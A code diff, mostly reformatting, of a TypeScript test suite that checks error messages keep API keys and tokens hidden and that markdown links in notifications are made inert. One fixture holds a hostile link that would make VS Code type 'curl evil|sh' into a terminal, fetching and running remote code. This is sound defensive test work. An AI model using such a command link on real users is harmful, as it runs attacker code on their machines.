@@ -11,12 +11,14 @@ const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)
 describe('secrets and links in error text', () => {
   let server: Loopback;
   let reply: Reply;
-  before(async () => { server = await startLoopback(() => reply); });
+  before(async () => {
+    server = await startLoopback(() => reply);
+  });
   after(() => server.close());
 
   it('a 403 that echoes the key and token: neither the message nor exotelMessage carries them', async () => {
     reply = { status: 403, body: JSON.stringify({ RestException: { Status: 403, Message: `Key ${API_KEY} / token ${CANARY_TOKEN} is not allowed` } }) };
-    const err = await rejection(() => makeClient(server.baseUrl).client.listCalls()) as Error & { exotelMessage?: string };
+    const err = (await rejection(() => makeClient(server.baseUrl).client.listCalls())) as Error & { exotelMessage?: string };
     for (const text of [err.message, err.exotelMessage ?? '', err.stack ?? '']) {
       assert.ok(!text.includes(CANARY_TOKEN) && !text.includes(API_KEY), text);
     }
@@ -30,7 +32,8 @@ describe('secrets and links in error text', () => {
   });
 
   it('no text becomes a notification link once made inert; other text is unchanged', () => {
-    const hostile = 'Fix it: [Fix the number](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%22%7D) or [docs](https://evil.example)';
+    const hostile =
+      'Fix it: [Fix the number](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%22%7D) or [docs](https://evil.example)';
     assert.ok(hostile.match(NOTIFICATION_LINK), 'the pattern finds the links before');
     assert.strictEqual(inertNotificationText(hostile).match(NOTIFICATION_LINK), null);
     assert.strictEqual(inertNotificationText('Call ended: busy (+91 98765 43210) [sandbox]'), 'Call ended: busy (+91 98765 43210) [sandbox]');
